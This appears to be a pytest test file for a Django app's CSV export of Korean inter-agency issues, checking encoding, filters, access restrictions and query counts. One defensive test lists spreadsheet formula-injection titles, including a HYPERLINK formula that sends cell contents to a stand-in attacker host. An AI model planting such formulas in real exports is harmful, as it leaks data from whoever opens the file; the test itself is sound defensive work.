"""/issues/export.csv: the filtered list as a CSV that Excel opens with Korean intact."""

import codecs
import csv
import io

import pytest
from django.urls import reverse

from issues import services
from issues.models import Category
from tests.factories import AgencyFactory

pytestmark = pytest.mark.django_db

EXPORT_URL = reverse("issues:export")
HEADER_EN = [
    "ID",
    "Title",
    "Lead agency",
    "Cooperating agencies",
    "Category",
    "Priority",
    "Status",
    "Visibility",
    "Due date",
    "Filed",
    "Updated",
    "Reply overdue",
]


def _issue(actor, lead_agency, title="도시철도 2호선 공정 점검", **fields):
    return services.issue_create(actor=actor, title=title, lead_agency=lead_agency, **fields)


def _content(response) -> bytes:
    return b"".join(response.streaming_content)


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(_content(response).decode("utf-8-sig"))))


def _titles(response) -> set[str]:
    return {row[1] for row in _rows(response)[1:]}


def test_it_is_a_csv_download_that_starts_with_the_utf8_bom(client, alice, agency_a):
    _issue(alice, agency_a)
    client.force_login(alice)

    response = client.get(EXPORT_URL)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "charset=utf-8" in response["Content-Type"]
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert ".csv" in disposition
    assert _content(response).startswith(codecs.BOM_UTF8)


def test_it_has_a_header_row_and_korean_titles(client, alice, bob, agency_a, agency_b):
    category = Category.objects.create(slug="transport", name_ko="교통", name_en="Transport")
    issue = _issue(
        alice,
        agency_a,
        title="광주 도시철도 2호선 개통 협의",
        cooperating_agencies=[agency_b],
        category=category,
        priority="high",
    )
    client.force_login(alice)

    rows = _rows(client.get(EXPORT_URL, headers={"accept-language": "en"}))

    assert rows[0] == HEADER_EN
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["ID"] == str(issue.pk)
    assert row["Title"] == "광주 도시철도 2호선 개통 협의"
    assert row["Lead agency"] == "Agency A"
    reply_by = issue.cooperations.get().reply_by.isoformat()
    assert row["Cooperating agencies"] == f"Agency B (Requested, reply by {reply_by})"
    assert row["Category"] == "Transport"
    assert row["Priority"] == "High"
    assert row["Status"] == "Open"
    assert row["Visibility"] == "All organizations"


def test_it_names_agencies_in_korean_by_default(client, alice, agency_a, agency_b):
    _issue(alice, agency_a, cooperating_agencies=[agency_b])
    client.force_login(alice)

    rows = _rows(client.get(EXPORT_URL))

    assert len(rows[0]) == len(HEADER_EN)
    assert rows[1][2] == "광주가기관"
    assert rows[1][3].startswith("광주나기관 (")


def test_it_quotes_commas_quotes_and_newlines_in_titles(client, alice, agency_a):
    _issue(alice, agency_a, title='예산, "추경" 협의')
    client.force_login(alice)

    assert _titles(client.get(EXPORT_URL)) == {'예산, "추경" 협의'}


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+1",
        "-1+1 예산 조정",
        "@SUM(A1:A9)",
        "\t=1+1",
    ],
)
def test_it_never_writes_a_title_a_spreadsheet_would_run(client, alice, agency_a, title):
    _issue(alice, agency_a, title=title)
    client.force_login(alice)

    rows = _rows(client.get(EXPORT_URL))

    assert rows[1][1] == "'" + title  # OWASP: a leading quote makes it text
    assert rows[1][1].lstrip("'") == title  # and a person still reads the title


def test_it_honours_the_status_filter(client, alice, agency_a):
    open_issue = _issue(alice, agency_a, title="진행 중인 현안")
    resolved = _issue(alice, agency_a, title="해결된 현안")
    services.issue_change_status(
        issue=resolved, actor=alice, expected_version=resolved.version, status="resolved"
    )
    client.force_login(alice)

    assert _titles(client.get(EXPORT_URL, {"status": "resolved"})) == {resolved.title}
    assert _titles(client.get(EXPORT_URL, {"status": "open"})) == {open_issue.title}


def test_it_honours_the_agency_filter_for_lead_and_cooperating(
    client, alice, bob, carol, agency_a, agency_b, agency_c
):
    _issue(alice, agency_a, title="가기관 단독 현안")
    _issue(alice, agency_a, title="가기관·나기관 협력 현안", cooperating_agencies=[agency_b])
    _issue(bob, agency_b, title="나기관 주관 현안")
    _issue(carol, agency_c, title="다기관 주관 현안")
    client.force_login(alice)

    titles = _titles(client.get(EXPORT_URL, {"agency": agency_b.slug}))

    assert titles == {"가기관·나기관 협력 현안", "나기관 주관 현안"}


def test_it_honours_the_korean_search(client, alice, agency_a):
    _issue(alice, agency_a, title="도시철도 2호선 공정 점검")
    _issue(alice, agency_a, title="비엔날레 협력", description="도시철도 역사 전시 공간")
    _issue(alice, agency_a, title="청년 일자리 사업")
    client.force_login(alice)

    titles = _titles(client.get(EXPORT_URL, {"q": "도시철도"}))

    assert titles == {"도시철도 2호선 공정 점검", "비엔날레 협력"}


def test_it_ignores_invalid_filters_instead_of_failing(client, alice, agency_a):
    _issue(alice, agency_a)
    client.force_login(alice)

    response = client.get(EXPORT_URL, {"status": "nonsense", "agency": "no-such-agency"})

    assert response.status_code == 200
    assert len(_rows(response)) == 2


def test_it_never_contains_a_restricted_issue_the_user_may_not_see(
    client, alice, bob, carol, agency_a, agency_b
):
    _issue(alice, agency_a, title="공개 현안")
    _issue(alice, agency_a, title="비공개 현안", visibility="restricted")
    _issue(
        alice,
        agency_a,
        title="나기관과 협력하는 비공개 현안",
        visibility="restricted",
        cooperating_agencies=[agency_b],
    )

    client.force_login(carol)
    assert _titles(client.get(EXPORT_URL)) == {"공개 현안"}
    # Not even when the filters point straight at it.
    assert _titles(client.get(EXPORT_URL, {"q": "비공개"})) == set()
    assert _titles(client.get(EXPORT_URL, {"agency": agency_a.slug})) == {"공개 현안"}

    client.force_login(bob)
    assert _titles(client.get(EXPORT_URL)) == {"공개 현안", "나기관과 협력하는 비공개 현안"}


def test_the_mayors_office_export_contains_restricted_issues(client, alice, minji, agency_a):
    _issue(alice, agency_a, title="공개 현안")
    _issue(alice, agency_a, title="비공개 현안", visibility="restricted")
    client.force_login(minji)

    assert _titles(client.get(EXPORT_URL)) == {"공개 현안", "비공개 현안"}


def test_anonymous_users_are_sent_to_login(client):
    response = client.get(EXPORT_URL)

    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


@pytest.mark.parametrize("number_of_issues", [5, 25])
def test_its_query_count_does_not_grow_with_the_number_of_issues(
    client, django_assert_max_num_queries, alice, agency_a, number_of_issues
):
    partners = [AgencyFactory() for _ in range(3)]
    category = Category.objects.create(slug="transport", name_ko="교통", name_en="Transport")
    for number in range(number_of_issues):
        _issue(
            alice,
            agency_a,
            title=f"현안 {number}",
            cooperating_agencies=partners[: number % 3 + 1],
            category=category if number % 2 else None,
            assignee=alice,
        )
    client.force_login(alice)

    # session, user, issues, cooperations with their agencies
    with django_assert_max_num_queries(5):
        response = client.get(EXPORT_URL)
        rows = _rows(response)  # the queries run while the body streams

    assert len(rows) == number_of_issues + 1
